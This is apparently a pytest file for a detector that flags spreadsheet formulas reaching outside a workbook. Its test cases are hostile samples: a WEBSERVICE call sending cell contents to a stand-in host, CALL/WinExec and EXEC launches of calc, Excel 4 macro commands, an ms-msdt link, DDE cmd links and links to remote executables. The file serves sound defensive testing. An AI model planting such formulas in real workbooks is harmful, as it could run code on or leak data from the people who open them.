"""Functions in worksheets that reach outside."""

from __future__ import annotations

import pytest

from gateway.extract.office.markup.ooxml import OOXML
from gateway.extract.workbook.calls import calls
from tests.builders.archives import codes, take_apart
from tests.builders.documents import docx


def sheet(formula: str) -> bytes:
    return f'<worksheet><sheetData><row><c r="A1"><f>{formula}</f><v>0</v></c></row></sheetData></worksheet>'.encode()


@pytest.mark.parametrize(("formula", "code"), [
    ("WEBSERVICE(&quot;http://h.example/?&quot;&amp;A1)", "FORMULA-CALL"), ("_xlfn.WEBSERVICE(A1)", "FORMULA-CALL"),
    ("SUM(1,CALL(&quot;kernel32&quot;,&quot;WinExec&quot;,&quot;JCJ&quot;,&quot;calc&quot;,0))", "FORMULA-CALL"),
    ("REGISTER.ID(&quot;kernel32&quot;,&quot;x&quot;)", "FORMULA-CALL"), ("EXEC(&quot;calc&quot;)", "FORMULA-CALL"),
    ("HYPERLINK(&quot;file:///\\\\h.example\\s\\a.exe&quot;,&quot;x&quot;)", "DOC-LINK-PROGRAM"),
    ("HYPERLINK(&quot;ms-msdt:/id x&quot;)", "DOC-LINK-SCHEME"), ('HYPERLINK("setup.lnk")', "DOC-LINK-PROGRAM"),
])
def test_calls(formula: str, code: str) -> None:
    assert [o.code for o in calls(sheet(formula))] == [code]


@pytest.mark.parametrize("formula", [
    "WEBSERVICE&#40;&quot;http://h.example/&quot;)", "&#87;EBSERVICE(&quot;http://h.example/&quot;)", "A1&amp;" * 1500 + "WEBSERVICE(&quot;http://h.example/&quot;)",
])
def test_calls_that_are_spelled_otherwise_or_come_late(formula: str) -> None:
    decoys = "<c><f>HYPERLINK(&quot;#A1&quot;)</f></c>" * 21_000
    sheets = {"xl/worksheets/sheet1.xml": sheet(formula).replace(b"<row>", b"<row>" + decoys.encode()).decode()}
    assert "FORMULA-CALL" in codes(take_apart(OOXML, docx(more=sheets), "a.xlsx"))


@pytest.mark.parametrize("data", [
    sheet("HYPERLINK(&quot;https://www.example.com/&quot;,&quot;x&quot;)"), sheet("HYPERLINK(&quot;other.xlsx&quot;)"), sheet("MYCALL(1)"),
    sheet("HYPERLINK(A1)"), b"<worksheet><c t='inlineStr'><is><t>please CALL(1) us</t></is></c></worksheet>", sheet("VLOOKUP(A1,B:C,2)"), b"",
    b"CALL(" * 50_000,
])
def test_ordinary_cells(data: bytes) -> None:
    assert not list(calls(data))


@pytest.mark.parametrize(("formula", "code"), [
    ("_xlfn.IMAGE(&quot;\\\\h\\s\\a.png&quot;)", "DOC-EXTERNAL-SHARE"), ("IMAGE(&quot;file://h/s/a.png&quot;)", "DOC-EXTERNAL-SHARE"),
    ("IMAGE(&quot;https://a.example/b.png&quot;)", ""),
])
def test_pictures_of_cells(formula: str, code: str) -> None:
    assert [o.code for o in calls(sheet(formula))] == ([code] if code else [])


@pytest.mark.parametrize("element", ['definedName name="x" hidden="1"', "calculatedColumnFormula"])
def test_formulas_beside_cells(element: str) -> None:
    name = element.split()[0]
    assert [o.code for o in calls(f'<a><{element}>EXEC("calc")</{name}></a>'.encode())] == ["FORMULA-CALL"]
    assert not list(calls(f"<a><{element}>GET.CELL(48,A1)</{name}></a>".encode()))


@pytest.mark.parametrize(("formula", "held"), [
    ("RTD(&quot;a.feed&quot;,&quot;h.invalid&quot;,&quot;x&quot;)", True), ("1+RTD(A1,&quot;\\\\h&quot;)", True),
    ("RTD(&quot;bank.feed&quot;,&quot;&quot;,&quot;USDJPY&quot;,&quot;BID&quot;)", False), ("RTD(&quot;bank.feed&quot;,,&quot;USDJPY&quot;)", False),
])
def test_feeds_of_other_machines(formula: str, held: bool) -> None:
    assert bool(list(calls(sheet(formula)))) is held


@pytest.mark.parametrize(("formula", "code"), [
    ("HYPERLINK(&quot;\\\\&quot;&amp;&quot;h.example&quot;&amp;&quot;\\s\\a.exe&quot;,&quot;x&quot;)", "DOC-LINK-PROGRAM"),
    ("HYPERLINK(CONCATENATE(&quot;\\\\h.example\\s\\&quot;,&quot;a.js&quot;),&quot;x&quot;)", "DOC-LINK-PROGRAM"),
    ("IMAGE(&quot;file:&quot; &amp; &quot;//h.example/a.png&quot;)", "DOC-EXTERNAL-SHARE"),
    ("HYPERLINK(&quot;https://h.example/?id=&quot;&amp;A2)", ""), ("HYPERLINK(CONCATENATE(A1,B1))", ""),
])
def test_addresses_in_pieces(formula: str, code: str) -> None:
    assert [o.code for o in calls(sheet(formula))] == ([code] if code else [])


@pytest.mark.parametrize(("address", "code"), [
    ("\\\\h.example\\s\\a.docx", "DOC-LINK-SHARE"), ("\\\\fs01\\s\\a.docx", ""), ("file://198.51.100.7/a.pdf", "DOC-LINK-SHARE"),
])
def test_links_to_documents_on_shares(address: str, code: str) -> None:
    assert [o.code for o in calls(sheet(f"HYPERLINK(&quot;{address}&quot;,&quot;x&quot;)"))] == ([code] if code else [])


@pytest.mark.parametrize(("formula", "held"), [
    ("_xlfn.IMPORTCSV(&quot;http://h.example/a.csv&quot;)", True), ("_xlfn.IMPORTTEXT(&quot;\\\\h.example\\s\\a.txt&quot;)", True),
    ("_xlfn.IMPORTCSV(&quot;C:\\data\\a.csv&quot;)", False), ("_xlfn.IMPORTTEXT(A1)", False),
])
def test_texts_from_elsewhere(formula: str, held: bool) -> None:
    assert [o.code for o in calls(sheet(formula))] == (["FORMULA-CALL"] if held else [])


@pytest.mark.parametrize(("part", "held"), [
    ('<formControlPr fmlaLink="cmd|\'/c rem\'!A0"/>', True), ('<xdr:wsDr xmlns:xdr="x"><xdr:sp textlink="cmd|&apos;/c rem&apos;!A0"/></xdr:wsDr>', True),
    ('<formControlPr fmlaLink="$A$1" fmlaRange="Data!$A$1:$A$9"/>', False), ('<xdr:wsDr xmlns:xdr="x"><xdr:sp textlink="\'a|b\'!$A$1"/></xdr:wsDr>', False),
])
def test_formulas_of_shapes(part: str, held: bool) -> None:
    assert ("DOC-DDE" in codes(take_apart(OOXML, docx(more={"xl/x.xml": part}), "a.xlsx"))) == held


def test_commands_of_excel_4_in_names() -> None:
    for name in ("INITIATE", "EXECUTE", "POKE"):
        assert [o.code for o in calls(f'<definedName name="a">{name}("cmd","x")</definedName>'.encode())] == ["FORMULA-CALL"]


@pytest.mark.parametrize(("book", "code"), [
    ("https://h.example/[a.xlsx]Sheet1", "DOC-REMOTE-WORKBOOK"), ("\\\\h.example\\s\\[a.xls]S 1", "DOC-REMOTE-WORKBOOK"),
    ("file://h.example/s/a.xlsx", "DOC-REMOTE-WORKBOOK"), ("\\\\fs01\\plans\\[a.xlsx]S", ""), ("C:\\plans\\[a.xlsx]S", ""), ("[1]My sheet", ""),
    ("https://firm.sharepoint.com/[a.xlsx]S", "DOC-CLOUD-WORKBOOK"),
])
def test_workbooks_by_their_address(book: str, code: str) -> None:
    assert [o.code for o in calls(sheet(f"SUM('{book}'!$A$1:$A$9)"))] == ([code] if code else [])
    assert not list(calls(f"<a><is><t>='{book}'!A1</t></is></a>".encode()))
    assert not list(calls(sheet(f"A1&amp;\"see '{book}'!\"")))
